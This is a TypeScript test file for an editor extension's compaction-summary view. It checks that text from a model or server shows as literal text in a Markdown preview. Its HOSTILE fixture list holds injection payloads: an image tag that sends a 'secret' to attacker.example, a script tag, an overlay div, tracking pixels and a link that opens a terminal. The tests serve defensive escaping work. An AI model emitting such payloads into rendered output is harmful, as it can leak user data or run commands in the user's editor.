import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import {
  compactionEntryJson,
  describeCompactResult,
  describeSummaries,
  markdownFence,
  markdownLiteral,
  renderCompactResult,
  renderSummaries,
} from '../../src/compactionView';
import { checkCompactResult, checkSummariesResult, checkSummarizeParams } from '../../src/protocol';
import { compactResult, summariesResult, summarizeParams } from '../fixtures';
import { attributes, elementNames, renderPreview, textOf } from '../markdownPreview';

/** Text a prompt-injected session or a hostile model could put in a summary, reason or warning. */
const HOSTILE = [
  '<img src=https://attacker.example/leak?q=secret>',
  '<script>alert(1)</script>',
  '<div style="position:fixed;top:0;left:0;width:100%;background:white">Written to the session.</div>',
  '![pixel](https://attacker.example/p.png)',
  '[Run me](command:workbench.action.terminal.new)',
  '[ref link][r]',
  '<https://attacker.example/auto>',
  'bare https://attacker.example/bare and //attacker.example/proto and mail@attacker.example',
  '**bold** _em_ `code` ~~gone~~ $x^2$ &amp; &#60;b&#62;',
  '# not a heading',
  '1. not a list',
  'a | pipe \\| and a backslash \\',
];

/** The elements the compaction view itself writes; anything else came from the content. */
const OUR_ELEMENTS = ['h1', 'h2', 'p', 'blockquote', 'strong', 'code', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'ul', 'li', 'pre'];
const OUR_ATTRIBUTES = ['class="language-json"', 'class="language-text"'];

function hostileResult(): ReturnType<typeof compactResult> {
  const base = compactResult();
  const joined = HOSTILE.join('\n');
  return compactResult({
    summaryId: 's-<b>1</b>[x](https://attacker.example)',
    summarizer: 'offline',
    fallbackReason: `the model said:\n${joined}`,
    validation: { status: 'warning', issueCodes: ['<i>code</i>', 'a|b'], repairs: ['![r](https://attacker.example/r.png)'] },
    warnings: HOSTILE,
    compaction: {
      ...base.compaction,
      summary: `## Goal\n\n${joined}\n\n\`\`\`\n<img src=https://attacker.example/in-fence>\n\`\`\`\n\`\`\`\`\`\nstill inside\n`,
      details: {
        ...base.compaction.details,
        ds4ContextEngine: { provider: '<img src=https://attacker.example/provider>', model: '[m](command:x)' },
        note: '```\n<img src=https://attacker.example/details>',
      },
    },
  });
}

describe('compaction views', () => {
  it('shows the span, node ids, validation, summarizer and summary, and says nothing was written', () => {
    const text = renderCompactResult(compactResult(), { sessionFile: '/s/session.jsonl' });
    assert.match(text, /^# DS4 compaction s\\-00112233445566aa\n/);
    assert.match(text, /\*\*Not written to the session\.\*\* ds4 has not written anything to the session file\. The agent \(Pi\) must append/);
    assert.ok(text.includes('| Session | `/s/session.jsonl` |'));
    assert.ok(text.includes('| Root (new active root) | `s-00112233445566aa`: aggregate, graph level 1 |'));
    assert.ok(text.includes('| Segment | `s-00112233445566bb` |'));
    assert.ok(text.includes('| Previous root | `s-0011223344556699` |'));
    assert.ok(text.includes('| Summarizer | client (copilot/gpt\\-4o) |'));
    assert.ok(text.includes('| Fallback reason | — |'));
    assert.ok(text.includes('| Validation | valid; issues before repairs: none; repairs: none |'));
    assert.ok(text.includes('| Span | 9 messages, 812 tokens summarized (9 entries) |'));
    assert.ok(text.includes('| First kept entry | `00000011` (210 tokens kept verbatim) |'));
    assert.ok(text.includes('| Summary size | 180 of 4,000 tokens |'));
    // The summary comes last, as written, in a fenced block; embedded node texts are shortened in the details.
    assert.ok(text.endsWith(`\`\`\`text\n${compactResult().compaction.summary.trimEnd()}\n\`\`\`\n`));
    assert.match(text, /"content": "\(\d+ characters\)"/);
  });

  it('shows why the offline summarizer was used', () => {
    const text = renderCompactResult(
      compactResult({
        summarizer: 'offline',
        fallbackReason: 'the client answered ds4/summarize with error -32803: no chat model | none',
        validation: { status: 'valid', issueCodes: ['missing-section'], repairs: ['files-overwritten'] },
        segmentSummaryId: 's-00112233445566aa',
        span: { ...compactResult().span, previousSummaryId: null, isSplitTurn: true },
        warnings: ['the cut splits a turn'],
      }),
    );
    assert.ok(
      textOf(renderPreview(text)).includes('the client answered ds4/summarize with error -32803: no chat model | none'),
      'the reason, literally, in its cell',
    );
    assert.ok(text.includes('| Validation | valid; issues before repairs: missing\\-section; repairs: files\\-overwritten |'));
    assert.ok(text.includes('| Segment | the root itself (no previous root) |'));
    assert.ok(text.includes('| Previous root | none (first compaction of this branch) |'));
    assert.ok(text.includes('; the cut splits a turn |'));
    assert.ok(text.includes('## Warnings\n\n- the cut splits a turn\n'));
  });

  it('shows text from the model or the server literally in the preview: no HTML, image or link', () => {
    const result = hostileResult();
    const markdown = renderCompactResult(result, { sessionFile: '/s/a|b`<img src=x>`.jsonl' });
    const html = renderPreview(markdown);
    assert.deepEqual(
      elementNames(html).filter((name) => !OUR_ELEMENTS.includes(name)),
      [],
      'no element but the ones the view writes (no img, a, script, div, style, span, em, del, h3, ol)',
    );
    assert.deepEqual(
      attributes(html).filter((attribute) => !OUR_ATTRIBUTES.includes(attribute)),
      [],
      'no href, src or style',
    );
    const text = textOf(html);
    for (const hostile of HOSTILE) {
      assert.ok(text.includes(hostile), `the summary shows ${JSON.stringify(hostile)} as text`);
    }
    // The summary is one code block to the end, ``` and ````` inside it included.
    const summaryBlock = html.slice(html.lastIndexOf('<pre><code class="language-text">')).trimEnd();
    assert.equal(textOf(summaryBlock), `${result.compaction.summary.trimEnd()}\n`);
    assert.ok(summaryBlock.endsWith('</code></pre>'), 'nothing after the summary block');
    // Every table row still has its two cells; pipes and line breaks stayed in the cell.
    const rows = html.match(/<tr>[\s\S]*?<\/tr>/g) ?? [];
    assert.ok(rows.length >= 10, String(rows.length));
    for (const row of rows) {
      assert.equal(row.match(/<t[dh]>/g)?.length, 2, row);
    }
    assert.ok(text.includes('Session\n/s/a|b\'<img src=x>\'.jsonl'), 'the path, in its code span');
    assert.ok(text.includes('issues before repairs: <i>code</i>, a|b; repairs: ![r](https://attacker.example/r.png)'));
    assert.ok(text.includes('(<img src=https://attacker.example/provider>/[m](command:x))'));
    assert.ok(text.includes(`the model said: ${HOSTILE.join(' ')}`), 'the reason on one line in its cell');
    assert.ok(text.startsWith('DS4 compaction s-<b>1</b>[x](https://attacker.example)\n'), 'the heading');
    // The warnings: one list item each, literally.
    const items = (html.match(/<li>[\s\S]*?<\/li>/g) ?? []).map(textOf);
    assert.deepEqual(items, HOSTILE);
  });

  it('escapes inline text and fences blocks so nothing inside ends them', () => {
    assert.equal(markdownLiteral(' a <b> & [c](d)\n|e| '), 'a &lt;b&gt; &amp; \\[c\\]\\(d\\) \\|e\\|');
    assert.equal(markdownLiteral('https://x.example'), 'https\\:\\/\\/x\\.example');
    assert.equal(markdownFence('plain', 'text'), '```text\nplain\n```');
    assert.equal(markdownFence('a ```` b ` c', ''), '`````\na ```` b ` c\n`````');
  });

  it('keeps links out of the compaction notification', () => {
    const notice = describeCompactResult(
      compactResult({ summarizer: 'offline', fallbackReason: 'timeout [Fix it](command:workbench.action.terminal.new)' }),
    );
    assert.ok(notice.includes('written offline (timeout [Fix it] (command:workbench.action.terminal.new))'), notice);
    // VS Code's pattern for links in notification messages.
    assert.doesNotMatch(notice, /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)/);
    assert.equal(
      describeCompactResult(compactResult()),
      'DS4: summary s-00112233445566aa prepared, written by the editor model, validation valid. ' +
        'The agent (Pi) must append the compaction entry; ds4 never writes the session file.',
    );
  });

  it('gives the compaction entry as one JSON line in Pi’s shape', () => {
    const result = compactResult();
    const entry = JSON.parse(compactionEntryJson(result)) as Record<string, unknown>;
    assert.deepEqual(entry, {
      type: 'compaction',
      summary: result.compaction.summary,
      firstKeptEntryId: '00000011',
      tokensBefore: 1234,
      details: result.compaction.details,
    });
    assert.ok(!compactionEntryJson(result).includes('\n'));
  });

  it('renders the summary graph as a header and the server’s tree', () => {
    const text = renderSummaries(summariesResult());
    assert.ok(text.startsWith('DS4 summary graph of session 0a1b2c3d-sess\nfile: /home/me/sessions/s.jsonl\nleaf: 00000020\n'));
    assert.ok(text.includes('active root: s-00112233445566aa\nnodes: 1 (committed 1, prepared 0, failed 0); roots: 1\n'));
    assert.ok(text.includes('* s-00112233445566aa segment L0 committed valid 180 tok (active root)'));
    assert.equal(describeSummaries(summariesResult()), 'DS4: 1 summary node(s) in session 0a1b2c3d-sess, active root s-00112233445566aa.');
    assert.equal(
      describeSummaries(summariesResult({ activeRootId: null, nodes: [], counts: { nodes: 0 } })),
      'DS4: 0 summary node(s) in session 0a1b2c3d-sess, no active root.',
    );
  });

  it('checks the compaction shapes', () => {
    assert.deepEqual(checkCompactResult(compactResult()), []);
    assert.deepEqual(checkCompactResult({ ...compactResult(), summarizer: 'model', span: {} }), ['result.summarizer', 'result.span']);
    assert.deepEqual(checkSummariesResult(summariesResult({ dot: 'digraph summaries {}' })), []);
    assert.deepEqual(checkSummariesResult({ ...summariesResult(), tree: null }), ['result.tree']);
    assert.deepEqual(checkSummarizeParams(summarizeParams()), []);
    assert.deepEqual(checkSummarizeParams({ ...summarizeParams(), sourceEntryIds: [1] }), ['params.sourceEntryIds']);
  });
});
